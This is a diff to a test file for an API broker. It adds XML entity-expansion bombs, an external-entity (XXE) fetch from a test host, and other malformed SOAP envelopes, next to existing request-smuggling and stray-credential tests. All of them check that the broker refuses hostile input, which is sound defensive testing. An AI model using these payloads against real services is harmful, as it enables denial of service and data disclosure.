@@ -106,6 +106,7 @@ test('no request line leads anywhere but to the data APIs of the org (30 spellin
     '*',
   ]
   assert.equal(targets.length, 30)
+  t.diagnostic(`${targets.length} request lines`)
   for (const target of targets) {
     const said = await speak(
       broker.url,
@@ -138,6 +139,7 @@ test('no framing trick splits or smuggles a request (12 tricks)', async (t) => {
     `${head}Transfer-Encoding: chunked\r\n\r\n5;a=\n\r\nhello\r\n0\r\n\r\n${inner}`,
   ]
   assert.equal(tricks.length, 12)
+  t.diagnostic(`${tricks.length} framings`)
   for (const trick of tricks) await speak(broker.url, trick, 250)
   // Nothing that was hidden in a body reached the org with a token on it: unauthenticated, it ends at the broker.
   assert.deepEqual(
@@ -168,6 +170,7 @@ test('credentials in odd places or forms open nothing (14 forms)', async (t) => 
     `X-Forwarded-Authorization: Bearer ${session}\r\n`,
   ]
   assert.equal(forms.length, 14)
+  t.diagnostic(`${forms.length} credentials`)
   for (const form of forms) {
     const said = await speak(
       broker.url,
@@ -201,7 +204,7 @@ test('a Host header leads nowhere, and names no other org to the upstream side',
   await stillServes(scene)
 })
 
-test('odd envelopes are refused before anything is sent (10 forms)', async (t) => {
+test('odd envelopes are refused before anything is sent (16 forms)', async (t) => {
   const scene = await trap(t)
   const { broker, session, upstream } = scene
   const envelope = (header: string, body = '<query/>'): string =>
@@ -218,8 +221,16 @@ test('odd envelopes are refused before anything is sent (10 forms)', async (t) =
     Buffer.from(envelope(id(session)), 'utf16le'),
     envelope(`${'<a>'.repeat(10_000)}`),
     `<e:Envelope><e:Header><!--${'x'.repeat(200_000)}--></e:Header>`,
+    // Bombs: entities that grow, in the declaration or without one, elements without end, attributes without end.
+    `<!DOCTYPE b [<!ENTITY a "${'x'.repeat(100)}">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at} "${`&a${at - 1};`.repeat(10)}">`).join('')}]>${envelope(id('&a8;'))}`,
+    `<?xml version="1.0"?><!DOCTYPE b [<!ENTITY % p SYSTEM "http://${scene.elsewhere}/d">%p;]>${envelope(id(session))}`,
+    envelope(id('&a8;')),
+    envelope(`${'<h:a xmlns:h="u">'.repeat(3000)}${'</h:a>'.repeat(3000)}${id(session)}`),
+    `<e:Envelope ${'a="1" '.repeat(30_000)}><e:Header>${id(session)}</e:Header>`,
+    `<e:Envelope><e:Header>${'<![CDATA['.repeat(9000)}`,
   ]
-  assert.equal(forms.length, 10)
+  assert.equal(forms.length, 16)
+  t.diagnostic(`${forms.length} envelopes`)
   for (const form of forms) {
     const answer = await fetch(`${broker.url}/services/Soap/u/60.0`, {
       method: 'POST',
